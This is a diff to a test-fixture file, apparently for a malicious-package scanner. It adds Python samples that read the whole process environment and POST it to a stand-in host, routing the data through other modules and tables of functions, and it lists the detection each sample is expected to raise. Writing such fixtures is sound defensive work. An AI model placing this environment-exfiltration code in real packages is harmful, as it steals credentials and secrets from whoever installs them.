@@ -1,6 +1,9 @@
 import type { Samples } from '../contract.ts';
 import { wheel } from '../samples-kit.ts';
 
+/** More than is run again to see what one module gives another: that is told by the names then. */
+const LONG = '# a note\n'.repeat(20_000);
+
 /** Malicious samples in Python. */
 export const PYTHON: Samples['malicious'] = [
   {
@@ -10,6 +13,35 @@ export const PYTHON: Samples['malicious'] = [
         "import requests\nfrom .facts import told\nrequests.post('https://a.weir.test/x', json=told())\n",
       ),
       'own/facts.py': 'import os\ndef told():\n    return dict(os.environ)\n',
+    },
+    expected: [{ rule: 'environment', file: 'own/__init__.py', line: 3, severity: 'high' }],
+  },
+  {
+    name: 'Python: the environment, as one function of another module gives it, and another one does not',
+    files: {
+      ...wheel(
+        "import requests\nfrom .facts import told, version\nrequests.post('https://a.weir.test/x', json=version())\nrequests.post('https://a.weir.test/x', json=told())\n",
+      ),
+      'own/facts.py': `${LONG}import os, own\ndef told():\n    return dict(os.environ)\ndef version():\n    return own.__version__\n`,
+    },
+    expected: [{ rule: 'environment', file: 'own/__init__.py', line: 4, severity: 'high' }],
+  },
+  {
+    name: 'Python: the environment, as the package itself gives it',
+    files: {
+      ...wheel(`${LONG}import os\ndef told():\n    return dict(os.environ)\nfrom . import sending\n`),
+      'own/sending.py':
+        "import requests\nfrom . import told\nrequests.post('https://a.weir.test/x', json=told())\n",
+    },
+    expected: [{ rule: 'environment', file: 'own/sending.py', line: 3, severity: 'high' }],
+  },
+  {
+    name: 'Python: the environment, from a table of functions of another module',
+    files: {
+      ...wheel(
+        "import requests\nfrom .facts import TASKS\nrequests.post('https://a.weir.test/x', json=TASKS['a']())\n",
+      ),
+      'own/facts.py': `${LONG}import os\ndef told():\n    return dict(os.environ)\nTASKS = {'a': told}\n`,
     },
     expected: [{ rule: 'environment', file: 'own/__init__.py', line: 3, severity: 'high' }],
   },
